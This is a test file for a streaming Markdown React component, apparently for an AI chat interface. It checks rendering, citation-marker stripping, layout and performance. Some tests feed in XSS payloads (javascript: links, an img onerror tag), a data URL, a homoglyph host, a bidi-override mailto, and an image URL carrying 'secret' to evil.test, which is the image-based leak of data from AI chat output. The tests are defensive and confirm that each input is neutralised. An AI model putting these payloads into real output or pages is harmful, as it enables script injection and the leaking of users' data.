import { cleanup, render, screen, waitFor } from '@testing-library/react'
import { Profiler } from 'react'
import { afterEach, beforeAll, expect, it, vi } from 'vitest'
import { userEvent } from 'vitest/browser'
import '../styles/index.css'
import { preloadAll } from '../part/lazyPart.tsx'
import { MarkdownComponentsContext } from './components.ts'
import type { MarkdownComponents } from './components.ts'
import { Markdown } from './Markdown.tsx'

beforeAll(preloadAll)
afterEach(cleanup)

it.each([
  ['a script', '[a](javascript:alert(1))'],
  ['a script in disguise', '[a](java&#10;script:alert(1))'],
  ['data', '[a](data:text/html,x)'],
  ['a place on this page', '[a](/admin)'],
])('makes no link to %s', (_, text) => {
  render(<Markdown text={text} />)
  expect(screen.queryByRole('link')).toBeNull()
  expect(screen.getByText('a')).toBeVisible()
})

it('says where a link leads and gives its target nothing', () => {
  render(<Markdown text="[a](https://example.com/x)" />)
  const link = screen.getByRole('link', { name: 'a example.com' })
  expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc')
  expect(link).toHaveAttribute('title', 'Opens example.com')
})

it('says a host in small letters beside an address whose capitals read as others', () => {
  render(<Markdown text="<https://PaypaI.example/>" />)
  expect(screen.getByRole('link', { name: /PaypaI.*paypai\.example$/ })).toBeVisible()
})

it('asks for no picture, whole or half', () => {
  const text = 'x ![chart](https://evil.test/?q=secret)'
  const { rerender } = render(<Markdown text="" streaming />)
  for (let end = 1; end <= text.length; end += 1) {
    rerender(<Markdown text={text.slice(0, end)} streaming />)
    expect(document.querySelector('img, picture, video, iframe, object')).toBeNull()
  }
  rerender(<Markdown text={text} />)
  expect(screen.getByRole('link', { name: /chart.*evil\.test/ })).toBeVisible()
})

it('draws a rare name of a character as soon as the table of all has come', async () => {
  render(<Markdown text={'From &nesear; to **&alefsym;**'} />)
  expect(await screen.findByText(/From \u2928 to/)).toBeVisible()
  expect(screen.getByText('\u2135')).toBeVisible()
})

it('shows raw HTML as what it is', () => {
  render(<Markdown text={'<img src=x onerror=alert(1)> and <b>bold</b>'} />)
  expect(document.querySelector('img, b')).toBeNull()
  expect(screen.getByText(/onerror/)).toBeVisible()
})

it('never shows the private glyphs of a citation marker', () => {
  render(<Markdown text={'It is so\uE200cite\uE202turn0search1\uE201. Then\uE200cite'} streaming />)
  expect(screen.getByText('It is so. Then')).toBeVisible()
})

it.each([
  ['in words', 'so\uE200cite\uE202turn0search1\uE201 it is', 'so it is'],
  ['in code', '`so\uE200cite\uE202turn0search1\uE201 it is`', 'so it is'],
  ['in a heading', '# so\u30104:0\u2020source\u3011 it is', 'so it is'],
  ['that looks like markdown', 'so\uE200a\uE202["b","*c* [d](e)"]\uE201 it is', 'so it is'],
  ['with JSON in it', 'so\uE200images{"q":["a_b","c*d"]}\uE201 it is', 'so it is'],
  ['that was cut', 'so it is\uE200cite\uE202turn0se', 'so it is'],
])('never shows a marker %s', (_, text, words) => {
  render(<Markdown text={text} />)
  expect(screen.getByText(words)).toBeVisible()
})

it.each([
  '\uE200cite\uE202turn0search1\uE201',
  '\uE200a\uE202["b", *c*]\uE201',
  '\u30104:0\u2020a b\u3011',
])('shows nothing of the marker %j while it comes', (marker) => {
  const text = `So it is${marker}.`
  const { rerender } = render(<Markdown text="" streaming />)
  for (let end = 1; end < text.length; end += 1) {
    rerender(<Markdown text={text.slice(0, end)} streaming />)
    const words = document.querySelector("[data-part='markdown']")?.textContent
    expect(words).toBe('So it is'.slice(0, end).trim())
  }
  rerender(<Markdown text={text} />)
  expect(screen.getByText('So it is.')).toBeVisible()
})

it.each([
  'Glyph \uE200 and words',
  'He wrote \u30101\u2020 and no more',
  '\u3010\u91CD\u8981\u3011\u3010',
])('loses no word of %j', (text) => {
  render(<Markdown text={text} />)
  const words = document.querySelector("[data-part='markdown']")?.textContent ?? ''
  for (const word of text.match(/[a-z]{2,}|\u91CD\u8981|\u3010$/g) ?? [])
    expect(words).toContain(word)
})

it('names the target of mail without signs that turn its direction', () => {
  render(<Markdown text={'[Write](mailto:a%E2%80%AE@b.test)'} />)
  expect(screen.getByRole('link')).toHaveTextContent('Write a@b.test')
  expect(screen.getByRole('link').outerHTML).not.toContain('\u202E')
})

it('draws any node as the app wants it', () => {
  const components: MarkdownComponents = {
    code: ({ node, children }) => <pre data-testid={node.lang}>{children}</pre>,
    link: ({ node, children }) => <q data-testid={node.url}>{children}</q>,
    tableCell: ({ children }) => <td data-testid="cell">{children}</td>,
    text: ({ children }) => <i>{children}</i>,
  }
  const text = '```sh\nls\n```\n\n[**a**](https://a.test)\n\n| b |\n| - |\n| c |'
  render(<Markdown text={text} components={components} />)
  expect(screen.getByTestId('sh')).toHaveTextContent('ls')
  expect(screen.getByTestId('https://a.test')).toHaveTextContent('a')
  expect(screen.getAllByTestId('cell').map(({ innerHTML }) => innerHTML)).toEqual([
    '<i>b</i>',
    '<i>c</i>',
  ])
})

it('shows the text of a code block whose view breaks', async () => {
  const silenced = vi.spyOn(console, 'error').mockImplementation(() => undefined)
  const Broken = (): never => {
    throw new Error('This view is broken')
  }
  render(
    <MarkdownComponentsContext value={{ code: Broken }}>
      <Markdown text={'One\n\n```\ntwo\n```\n\nThree'} />
    </MarkdownComponentsContext>,
  )
  expect(screen.getByText('One')).toBeVisible()
  expect(screen.getByText('Three')).toBeVisible()
  await userEvent.click(screen.getByRole('button', { name: 'View raw' }))
  expect(screen.getByText('two')).toBeVisible()
  silenced.mockRestore()
})

it('keeps a long text in several nodes, cut at the same places however far it has come', () => {
  const text = 'Some words of an answer. '.repeat(400)
  const { container, rerender } = render(<Markdown text={text.slice(0, 6000)} streaming />)
  const paragraph = container.querySelector('p')
  const before = [...(paragraph?.childNodes ?? [])]
  rerender(<Markdown text={text} streaming />)
  const after = [...(paragraph?.childNodes ?? [])]
  expect(before.length).toBeGreaterThan(2)
  expect(after.slice(0, before.length)).toEqual(before)
  expect(paragraph?.textContent).toBe(text.trimEnd())
})

it('keeps the colours of code while the code grows', async () => {
  const code = '```ts\nconst a = 1\nconst b = 2\n'
  const { rerender } = render(<Markdown text={code} streaming />)
  const first = await waitFor(() => {
    const found = document.querySelector("[data-token='keyword']")
    expect(found).not.toBeNull()
    return found
  })
  for (let end = 1; end <= 12; end += 1) {
    rerender(<Markdown text={`${code}${'const c = 3\n'.slice(0, end)}`} streaming />)
    expect(document.querySelector("[data-token='keyword']")).toBe(first)
  }
  rerender(<Markdown text={`${code}const c = 3\n\`\`\``} />)
  expect(document.querySelector("[data-token='keyword']")).toBe(first)
  await waitFor(() => expect(document.querySelectorAll("[data-token='keyword']")).toHaveLength(3))
})

it('shows no half-written mark while the text comes', () => {
  render(<Markdown text="Some **bo" streaming />)
  expect(screen.getByText('bo').tagName).toBe('STRONG')
})

it('starts anew when the text is another one', () => {
  const { rerender } = render(<Markdown text="One *text*" streaming />)
  rerender(<Markdown text="Another" streaming />)
  expect(screen.getByText('Another')).toBeVisible()
  expect(screen.queryByText('text')).toBeNull()
})

it('goes on in its own direction, paragraph by paragraph', () => {
  render(<Markdown text={'English\n\nعربية'} />)
  expect(getComputedStyle(screen.getByText('English')).direction).toBe('ltr')
  expect(getComputedStyle(screen.getByText('عربية')).direction).toBe('rtl')
})

it('draws a word more in less time than the text takes anew', () => {
  const paragraph = 'A paragraph with **bold** and `code` words in it, again and again.\n\n'
  const times: number[] = []
  const draw = (text: string) => (
    <Profiler id="markdown" onRender={(_, __, actual) => times.push(actual)}>
      <Markdown text={text} streaming />
    </Profiler>
  )
  const long = paragraph.repeat(400)
  const { rerender } = render(draw(long))
  for (const words of ['one', 'one more', 'one more word']) rerender(draw(`${long}${words}`))
  const [whole = 0, ...later] = times
  expect(Math.min(...later)).toBeLessThan(whole / 2)
})

it.each([
  [
    'a hundred lists in each other',
    Array.from({ length: 100 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  ],
  ['a word without end', 'a'.repeat(10_000)],
  ['a wide table', `|${' a |'.repeat(60)}\n|${' - |'.repeat(60)}\n|${' wide |'.repeat(60)}`],
  ['wide code', `\`\`\`\n${'wide '.repeat(500)}\n\`\`\``],
])('keeps %s inside its column', (_, text) => {
  render(
    <main style={{ padding: '1rem' }}>
      <Markdown text={text} />
    </main>,
  )
  expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(window.innerWidth)
})

it('shows the end of an endless text as it was written', () => {
  const { container } = render(<Markdown text={`${'- - -\n\n'.repeat(5_000)}**last**`} />)
  expect(container.querySelectorAll('hr')).toHaveLength(5_000)
  expect(screen.getByText('**last**')).toBeVisible()
  expect(container.querySelector('strong')).toBeNull()
})

it('draws no block anew when one before it is taken for something else', () => {
  const paragraphs = Array.from({ length: 400 }, (_, place) => `Paragraph ${place}\n\n`).join('')
  const { rerender } = render(<Markdown text={`${paragraphs}[a]: https://e.test/`} streaming />)
  const before = screen.getByText('Paragraph 399')
  rerender(<Markdown text={`${paragraphs}[a]: https://e.test/\n\nLast [a]`} streaming />)
  expect(screen.getByText('Paragraph 399')).toBe(before)
  expect(screen.getByRole('link', { name: /^a/ })).toBeVisible()
})
